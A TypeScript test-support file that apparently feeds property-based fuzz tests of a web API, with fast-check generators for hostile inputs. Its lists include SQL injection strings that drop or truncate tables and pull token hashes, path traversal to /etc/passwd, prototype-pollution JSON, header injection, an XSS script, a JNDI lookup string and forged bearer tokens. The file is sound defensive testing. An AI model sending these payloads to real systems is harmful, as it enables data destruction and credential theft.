/** Hostile values and whole hostile requests, as fast-check arbitraries. */
import fc from 'fast-check';

export const HOSTILE_STRINGS: readonly string[] = [
  // SQL
  "' OR '1'='1",
  "'; DROP TABLE events; --",
  '1; TRUNCATE events CASCADE',
  "'; SELECT pg_sleep(30); --",
  '$$; DELETE FROM events; $$',
  'suggestion/x\' UNION SELECT token_hash FROM principals --',
  // paths
  '../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..\\..\\windows\\win.ini',
  '/',
  '//',
  'a/b',
  'a?b=c',
  'a#b',
  '%00',
  '%',
  // prototype pollution
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  // unicode and control characters
  '\u202Egnp.exe',
  '🙂'.repeat(40),
  '\uFFFF',
  '\uD800',
  'a\uDC00b',
  '\u0000',
  'a\u0000b',
  '\u0007\u0008\u001b[31m',
  ' ',
  '\t',
  '\r\n',
  'a\r\nX-Injected: 1',
  // templates and markup
  '${7*7}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '%s%s%s%n',
  '${jndi:ldap://example.invalid/a}',
  // numbers and dates as text
  '1e309',
  '-0',
  'NaN',
  'Infinity',
  '-1',
  '99999999999999999999999',
  '2023-02-30',
  '2024-13-01',
  '0000-00-00',
  '9999-12-31',
  '2024-1-1',
  '2024-01-01T00:00:00Z',
  '+275760-09-13',
  '１２３４-０１-０１',
  // sizes
  'a'.repeat(101),
  'a'.repeat(10_001),
  '',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 1, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ minLength: 2_001, maxLength: 12_000, unit: fc.constantFrom('a', 'é', '😀', ' ') }) },
);

/** Strings a real HTTP client can put in a header. */
export const headerString: fc.Arbitrary<string> = hostileString.map((s) => s.replace(/[^\x20-\x7e]/g, '?').slice(0, 4_000));

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.constantFrom(-1, 0, 2 ** 53 + 1, 1e308, -1e308, 0.5, 1e-300) },
  { weight: 1, arbitrary: fc.boolean() },
  { weight: 1, arbitrary: fc.constant(null) },
  { weight: 1, arbitrary: fc.constantFrom([], {}, [[[[[]]]]], { a: { b: { c: {} } } }) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
);

export const PROTO_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

export const BROKEN_JSON: readonly string[] = [
  '{',
  '{"type":',
  '{"type": "RegisterSuggestion",}',
  "{'type': 'x'}",
  '{"a": NaN}',
  '{"a": undefined}',
  '[1, 2',
  'nul',
  '"unterminated',
  '\uFEFF{"type":"x"}',
  '{"a":1}{"b":2}',
  '{"a":1} trailing',
  '{"a":"\\u0000"}',
  '{"a":"\\ud800"}',
  '{"__proto__": {"roles": ["admin"]}}',
  '{"constructor": {"prototype": {"admin": true}}}',
  '[' .repeat(5_000) + ']'.repeat(5_000),
  '{"a":'.repeat(3_000) + '1' + '}'.repeat(3_000),
  '',
  ' ',
  'null',
  '0',
  '"a string"',
  'true',
  '[]',
];

export const CONTENT_TYPES: readonly string[] = [
  'application/json',
  'application/json; charset=utf-8',
  'application/json; charset=utf-16',
  'application/JSON',
  'text/plain',
  'text/csv',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/octet-stream',
  'application/merge-patch+json',
  'application/problem+json',
  '*/*',
  'garbage',
  ';;;',
];

export const BOGUS_AUTHORIZATION: readonly string[] = [
  'Bearer',
  'Bearer ',
  'Bearer x',
  'Bearer dkt_' + 'A'.repeat(43),
  'Bearer ' + 'A'.repeat(201),
  'Bearer ../../etc/passwd',
  "Bearer ' OR '1'='1",
  'Basic YWRtaW46YWRtaW4=',
  'bearer dkt_lowercase_scheme_token_value',
  'Token dkt_' + 'B'.repeat(43),
  'Bearer dkt_' + 'A'.repeat(43) + ' extra',
  'null',
  '',
];
